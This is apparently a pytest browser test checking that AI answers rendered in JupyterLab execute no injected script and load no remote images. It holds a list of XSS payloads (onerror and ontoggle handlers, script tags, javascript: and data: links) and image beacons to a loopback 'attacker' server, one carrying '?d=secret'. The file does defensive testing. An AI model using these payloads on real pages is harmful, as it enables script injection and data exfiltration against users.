"""An answer's outputs, rendered by JupyterLab itself, run nothing and fetch nothing.

JupyterLab renders a trusted output's text/markdown with its own `marked` and no sanitizer,
and runs `onerror` and `<script>` in trusted HTML. So each hostile answer is displayed as
a text/markdown-only output (and a whole answer as both parts), and the page is checked:
no flag set by injected code, no handler, script or dangerous link in the DOM, and no
request to the "attacker" (a loopback HTTP server here), whose address the images name.
A control image, rendered with remote images allowed, proves the server would see one.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Iterator

import pytest

from .helpers import open_notebook, run_all

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

FLAG = "window.__pwned=(window.__pwned||[]).concat"


def hostile(url: str) -> list[str]:
    tag = f'<img src=x onerror="{FLAG}(1)">'
    return [
        f"``{tag}`",  # unbalanced backticks around a tag
        f"\\`{tag}`",  # an escaped backtick opens no code span
        f"`a` ``<script>{FLAG}(2)</script>` `b`",
        f"- item\n\n   ```\n{tag}\n   ```",  # a fence its list item does not hold
        f"```\n{tag}",
        f"[click](javascript:{FLAG}(3))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"[x][r]\n\n[r]: javascript:{FLAG}(4)",
        f'<http://ok.example/"onmouseover="{FLAG}(5)>',
        f"${tag}$",
        f"$$\n{tag}\n$$",
        f"$[x](javascript:{FLAG}(6))$",
        f"<details open ontoggle={FLAG}(7)>x</details>",
        f"![x]({url}/markdown?d=secret)",
        f"![x][img]\n\n[img]: {url}/reference.png",
        f'<img src="{url}/raw-html.png">',
    ]


CELL = """
import json
from IPython.display import display
from or_magics.render import AnswerInfo, Citation, ToolCallView, render_answer, to_html
from or_magics.render.mdsafe import markdown_safe
from or_magics.render.sanitize import sanitize

cases, url, tag = json.loads({payload!r})
for case in cases:
    display({{"text/markdown": markdown_safe(case)}}, raw=True)
info = AnswerInfo(model="m`" + tag + "`", provider="``" + tag + "`", error="\\\\`" + tag + "`")
bundle = render_answer("\\n\\n".join(cases), info, reasoning="\\n\\n".join(cases),
                       citations=[Citation('https://ok.example/"><' + tag, "t`" + tag + "`")],
                       tool_calls=[ToolCallView("x` " + tag + " `", {{"a": "` " + tag + " `"}})])
display({{"text/markdown": bundle["text/markdown"]}}, raw=True)
display({{"text/html": bundle["text/html"]}}, raw=True)
display({{"text/html": sanitize('<p><img src="' + url + '/html-format.gif"></p>')}}, raw=True)
display({{"text/html": to_html("![control](" + url + "/control.png)", remote_images=True)}},
        raw=True)
"""


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server that records every path asked of it."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def test_markdown_and_html_parts_run_and_fetch_nothing(page, lab, attacker) -> None:
    url, seen = attacker
    tag = f'<img src=x onerror="{FLAG}(9)">'
    payload = json.dumps([hostile(url), url, tag])
    lab.write_notebook("markdown_safety.ipynb", [CELL.format(payload=payload)])
    open_notebook(page, lab, "markdown_safety.ipynb")
    cells = run_all(page, lab)
    kinds = [sorted(o.get("data", {})) for o in cells[0]["outputs"]]
    assert kinds.count(["text/markdown"]) == len(hostile(url)) + 1
    deadline = time.monotonic() + 15
    while "/control.png" not in seen and time.monotonic() < deadline:
        time.sleep(0.2)
    time.sleep(1.0)  # give any other image the same chance to load
    assert set(seen) == {"/control.png"}, f"the page fetched {seen}"
    report = page.evaluate("""() => {
        const area = document.querySelector('.jp-Notebook');
        const all = sel => Array.from(area.querySelectorAll(sel));
        return {
            pwned: window.__pwned || null,
            rendered: all('.jp-RenderedMarkdown').length,
            handlers: all('.jp-OutputArea *').filter(el => Array.from(el.attributes)
                .some(a => a.name.toLowerCase().startsWith('on'))).map(el => el.outerHTML),
            scripts: all('.jp-OutputArea script').map(el => el.outerHTML),
            links: all('.jp-OutputArea a[href]').map(a => a.getAttribute('href'))
                .filter(h => !/^(https?:|mailto:|#)/i.test(h.trim())),
        };
    }""")
    assert report["rendered"] >= len(hostile(url)) + 1
    assert report["pwned"] is None
    assert report["handlers"] == [] and report["scripts"] == [] and report["links"] == []
